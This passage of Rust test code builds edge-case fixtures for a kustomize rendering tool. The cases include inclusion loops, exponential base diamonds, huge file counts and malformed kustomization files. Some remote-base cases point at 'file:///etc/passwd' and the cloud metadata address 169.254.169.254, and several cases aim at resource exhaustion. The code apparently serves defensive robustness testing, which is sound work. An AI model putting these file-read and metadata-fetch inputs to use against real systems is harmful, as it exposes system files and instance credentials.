        kz("kustomize-giant-float", "app/r.yaml").file("app/r.yaml", format!("{}data:\n  n: 1e999999\n", cm("g"))),
        kz("kustomize-document-is-a-scalar", "app/r.yaml").file("app/r.yaml", "just a string\n"),
        Case::new("kustomization-giant-replica-count", "app", "app/kustomization.yaml")
            .file("app/kustomization.yaml", k(&format!("replicas:\n- name: a\n  count: {}\n", "9".repeat(400)))),
        Case::new("kustomization-negative-replica-count", "app", "app/kustomization.yaml")
            .file("app/kustomization.yaml", k("replicas:\n- name: a\n  count: -1\n")),
    ]
}

/// Inclusion loops and remote bases.
fn loops_and_remotes() -> Vec<Case> {
    let c = |name: &str, names: &str, body: &str| {
        Case::new(name, "app", names).file("app/kustomization.yaml", k(body))
    };
    vec![
        c(
            "resources-self",
            "app/kustomization.yaml",
            "resources: [.]\n",
        ),
        c(
            "resources-self-slash",
            "app/kustomization.yaml",
            "resources: [./]\n",
        ),
        c(
            "resources-parent-loop",
            "app/kustomization.yaml",
            "resources: [sub]\n",
        )
        .file("app/sub/kustomization.yaml", k("resources: [..]\n")),
        c(
            "resources-two-step-loop",
            "app/kustomization.yaml",
            "resources: [../b]\n",
        )
        .file("b/kustomization.yaml", k("resources: [../app]\n")),
        c(
            "resources-root-loop",
            "app/kustomization.yaml",
            "resources: [..]\n",
        )
        .file("kustomization.yaml", k("resources: [app]\n")),
        c(
            "components-self",
            "app/kustomization.yaml",
            "components: [.]\n",
        ),
        c(
            "components-loop",
            "app/kustomization.yaml",
            "components: [../c]\n",
        )
        .file(
            "c/kustomization.yaml",
            "apiVersion: kustomize.config.k8s.io/v1alpha1\nkind: Component\ncomponents: [../c]\n",
        ),
        c(
            "transformers-dir-loop",
            "app/kustomization.yaml",
            "transformers: [.]\n",
        ),
        c(
            "generators-dir-loop",
            "app/kustomization.yaml",
            "generators: [../g]\n",
        )
        .file("g/kustomization.yaml", k("generators: [../g]\n")),
        c(
            "remote-https",
            "app/kustomization.yaml",
            "resources: [https://github.com/kubernetes-sigs/kustomize//examples/helloWorld?ref=v5.5.0]\n",
        ),
        c(
            "remote-github-shorthand",
            "app/kustomization.yaml",
            "resources: [github.com/org/repo/base]\n",
        ),
        c(
            "remote-ssh",
            "app/kustomization.yaml",
            "resources: [git@github.com:org/repo.git/base]\n",
        ),
        c(
            "remote-file-url",
            "app/kustomization.yaml",
            "resources: [file:///etc/passwd]\n",
        ),
        c(
            "remote-in-base",
            "base/kustomization.yaml",
            "resources: [../base]\n",
        )
        .file(
            "base/kustomization.yaml",
            k("resources: [http://169.254.169.254/latest/meta-data]\n"),
        ),
        c(
            "remote-component",
            "app/kustomization.yaml",
            "components: [https://example.com/c]\n",
        ),
        c(
            "remote-patch-path",
            "app/kustomization.yaml",
            "resources: [cm.yaml]\npatches:\n- path: https://example.com/p.yaml\n",
        )
        .file("app/cm.yaml", cm("a")),
        c(
            "remote-generator-file",
            "app/kustomization.yaml",
            "configMapGenerator:\n- name: g\n  files: [https://example.com/x]\n",
        ),
        c(
            "helm-charts",
            "app/kustomization.yaml",
            "helmCharts:\n- name: x\n  repo: https://example.com/charts\n",
        ),
        diamond(20),
        Case::new("plain-link-to-parent-recursive", "", "sub/up")
            .recursive()
            .file("a.yaml", cm("a"))
            .link("sub/up", ".."),
        Case::new("plain-link-fanout-recursive", "", "d/l0")
            .recursive()
            .link("d/l0", ".")
            .link("d/l1", ".")
            .link("d/l2", ".")
            .link("d/l3", "."),
        many_files(200_001),
        many_dirs(100),
    ]
}

/// Bases shared along 2^levels paths: each level lists two variants of the next.
fn diamond(levels: usize) -> Case {
    let mut case = Case::new("kustomize-diamond-bases", "l0", "/l0/kustomization.yaml");
    for i in 0..levels {
        let next = i + 1;
        case = case
            .file(
                &format!("l{i}/kustomization.yaml"),
                k("resources: [a, b]\n"),
            )
            .file(
                &format!("l{i}/a/kustomization.yaml"),
                k(&format!("namePrefix: a-\nresources: [../../l{next}]\n")),
            )
            .file(
                &format!("l{i}/b/kustomization.yaml"),
                k(&format!("namePrefix: b-\nresources: [../../l{next}]\n")),
            );
    }
    case.file(
        &format!("l{levels}/kustomization.yaml"),
        k("resources: [cm.yaml]\n"),
    )
    .file(&format!("l{levels}/cm.yaml"), cm("leaf"))
}

/// A directory with more entries than a render looks at.
fn many_files(n: usize) -> Case {
    let mut case = Case::new("huge-number-of-files", "", "f200000.txt");
    for i in 0..n {
        case = case.file(&format!("f{i:06}.txt"), "x");
    }
    case
}

/// Directories nested deeper than a recursive render descends.
fn many_dirs(depth: usize) -> Case {
    let path: Vec<String> = (0..depth).map(|i| format!("d{i}")).collect();
    Case::new("deeply-nested-directories", "", "d0/d1")
        .recursive()
        .file(&format!("{}/a.yaml", path.join("/")), cm("deep"))
}

/// Kustomization files that are not what kustomize accepts.
fn malformed_kustomizations() -> Vec<Case> {
    let c = |name: &str, text: &str| {
        Case::new(name, "app", "app/kustomization.yaml").file("app/kustomization.yaml", text)
    };
    vec![
        c("kustomization-empty", ""),
        c("kustomization-scalar", "just text\n"),
        c("kustomization-sequence", "- a\n- b\n"),
        c(
            "kustomization-two-documents",
            "resources: []\n---\nresources: []\n",
        ),
        c("kustomization-unknown-field", "resourcez: [a.yaml]\n"),
        c(
            "kustomization-wrong-kind",
            "kind: Deployment\nresources: []\n",
        ),
        c(
            "kustomization-wrong-api-version",
            "apiVersion: v1\nkind: Kustomization\nresources: []\n",
        ),
        c("kustomization-resources-not-a-list", "resources: a.yaml\n"),
        c("kustomization-resources-of-maps", "resources:\n- {a: b}\n"),
        c(
            "kustomization-resource-missing",
            "resources: [missing.yaml]\n",
        ),
        c(
            "kustomization-patch-without-target",
            "patches:\n- patch: \"- op: add\\n  path: /x\\n  value: 1\"\n",
        ),
        c(
            "kustomization-patch-not-yaml",
            "patches:\n- patch: \"{{{\"\n",
        ),
        c(
            "kustomization-generator-without-name",
            "configMapGenerator:\n- literals: [a=b]\n",
        ),
        c(
            "kustomization-generator-bad-literal",
            "configMapGenerator:\n- name: g\n  literals: [novalue]\n",
        ),
        c(
            "kustomization-generator-repeated-key",
            "configMapGenerator:\n- name: g\n  literals: [a=b, a=c]\n",
        ),
        c(
            "kustomization-bad-indentation",
            "resources:\n - a.yaml\n  - b.yaml\n",
        ),
        c("kustomization-unclosed-flow", "resources: [a.yaml\n"),
        c("kustomization-tab-indent", "resources:\n\t- a.yaml\n"),
        c("kustomization-labels-number", "commonLabels: {app: 1}\n"),
        c("kustomization-images-wrong-type", "images: {name: x}\n"),
        c("kustomization-multiple-files", "resources: []\n")
            .file("app/kustomization.yml", "resources: []\n"),
        c(
            "kustomization-sort-options-bad",
            "sortOptions: {order: sideways}\n",
        ),
        c(
            "kustomization-replacement-bad",
            "replacements:\n- source: {kind: X}\n  targets: 5\n",
        ),
        c(
            "kustomization-vars-bad",
            "vars:\n- name: V\n  objref: {kind: X, name: yy}\n  fieldref: {fieldpath: metadata.name}\n",
        ),
    ]
}
